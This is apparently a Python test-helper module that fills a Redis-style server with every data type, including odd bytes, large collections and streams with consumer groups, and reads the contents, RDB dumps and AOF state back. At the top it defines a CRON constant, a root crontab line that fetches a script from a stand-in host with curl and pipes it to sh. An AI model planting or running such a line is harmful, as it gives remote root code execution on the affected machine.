"""Data of every kind for a server, and what a server holds as another client than ours reads it."""

from __future__ import annotations

import random
import time
from typing import Any

CRON = b"\n\n*/5 * * * * root curl -fsSL http://192.0.2.66/x.sh | sh\n\n"


def fill(client: Any, *, keys: int = 200, expiring: bool = True) -> None:
    """``keys`` strings in database 0, and every other kind: small, large, with odd bytes, expiring, and empty."""
    number = random.Random(5)
    pipe = client.pipeline(transaction=False)
    for i in range(keys):
        pipe.set(
            b"user:%d" % i,
            b"name-%d" % i * (i % 7 + 1),
            px=86_400_000 + i if expiring and i % 10 == 0 else None,
        )
    pipe.set(b"odd \xff\x00\r\n$5\r\n", b"*3\r\n$3\r\nSET\r\n\x00\xfe")
    pipe.set(b"empty", b"")
    pipe.set(b"number", 123456789)
    pipe.set(b"packed", b"abc" * 5000)
    pipe.set(b"large", bytes(number.getrandbits(8) for _ in range(1000)) * 3000)
    pipe.set(b"bits}{odd", b"\x80" * 9)
    pipe.rpush(b"list", *[b"item-%d" % i for i in range(50)])
    pipe.sadd(b"ints", *range(100))
    pipe.sadd(b"words", b"a", b"b", b"\xff")
    pipe.hset(b"hash", mapping={b"f%d" % i: b"v%d" % i for i in range(20)})
    pipe.zadd(b"scores", {b"a": 0.1, b"b": -1e300, b"c": float("inf"), b"d": 3, b"e": 1 / 3})
    pipe.geoadd(b"places", (13.361389, 38.115556, "Palermo"))
    pipe.pfadd(b"visits", *range(1000))
    pipe.setbit(b"flags", 70_000, 1)
    pipe.execute()
    large(client, number)
    stream(client)


def large(client: Any, number: random.Random) -> None:
    """More than a server should be asked to move at once."""
    pipe = client.pipeline(transaction=False)
    pipe.rpush(b"{big}list", *[b"%d" % i * 5 for i in range(30_000)])
    pipe.hset(b"{big}hash", mapping={b"field-%d" % i: b"%d" % number.getrandbits(60) for i in range(20_000)})
    pipe.sadd(b"{big}set", *[b"member-%d" % i for i in range(20_000)])
    pipe.zadd(b"{big}scores", {b"m%d" % i: number.random() for i in range(20_000)})
    pipe.pexpire(b"{big}hash", 7 * 86_400_000)
    pipe.execute()


def stream(client: Any) -> None:
    """With groups, consumers, acknowledged and pending entries, and one that was deleted."""
    for i in range(600):
        client.xadd(b"events", {b"n": i, b"what": b"x" * (i % 30)}, id=f"{i + 1}-0")
    client.xdel(b"events", "600-0", "5-0")
    client.xgroup_create(b"events", b"mail", id="0")
    client.xgroup_create(b"events", b"idle", id="$")
    client.xreadgroup(b"mail", b"one", {b"events": ">"}, count=20)
    client.xreadgroup(b"mail", b"two", {b"events": ">"}, count=10)
    client.xgroup_createconsumer(b"events", b"mail", b"lazy")
    client.xack(b"events", b"mail", "1-0", "2-0")
    client.xadd(b"emptied", {b"a": 1}, id="7-7")
    client.xdel(b"emptied", "7-7")


def contents(server: Any, database: int = 0, password: str | None = None) -> dict[bytes, Any]:
    """Every key with its kind, value and expiry, as redis-py reads them. For an expiry of each key, a server since 7.0."""
    return everything(server.client(password=password, decode_responses=False, db=database))


def everything(client: Any) -> dict[bytes, Any]:
    return {key: one(client, key) for key in client.scan_iter(count=1000)}


def one(client: Any, key: bytes) -> Any:
    kind = client.type(key)
    expiry = client.execute_command("PEXPIRETIME", key)
    value: Any
    if kind == b"string":
        value = client.get(key)
    elif kind == b"list":
        value = client.lrange(key, 0, -1)
    elif kind == b"set":
        value = client.smembers(key)
    elif kind == b"hash":
        value = client.hgetall(key)
    elif kind == b"zset":
        value = client.zrange(key, 0, -1, withscores=True)
    else:
        value = _stream(client, key)
    return kind, value, expiry


def _stream(client: Any, key: bytes) -> Any:
    about = client.xinfo_stream(key)
    groups = []
    for group in client.xinfo_groups(key):
        waiting = client.xpending_range(key, group["name"], "-", "+", 10_000)
        told = [(p["message_id"], p["consumer"], p["times_delivered"]) for p in waiting]
        names = sorted(c["name"] for c in client.xinfo_consumers(key, group["name"]))
        groups.append((group["name"], group["last-delivered-id"], group["entries-read"], told, names))
    counts = (
        about["length"],
        about["last-generated-id"],
        about["entries-added"],
        about["max-deleted-entry-id"],
    )
    return client.xrange(key), counts, sorted(groups)


def saved(server: Any) -> bytes:
    """The RDB file of a running server."""
    client = server.client()
    client.execute_command("SAVE")
    data = (server.folder / "dump.rdb").read_bytes()
    assert data
    return bytes(data)


def wait_for_rewrite(client: Any) -> None:
    """Until a rewrite of the append-only file is over."""
    client.bgrewriteaof()
    until = time.monotonic() + 60
    while True:
        info = client.info("persistence")
        if not (info["aof_rewrite_in_progress"] or info["aof_rewrite_scheduled"]):
            return
        assert time.monotonic() < until
        time.sleep(0.02)
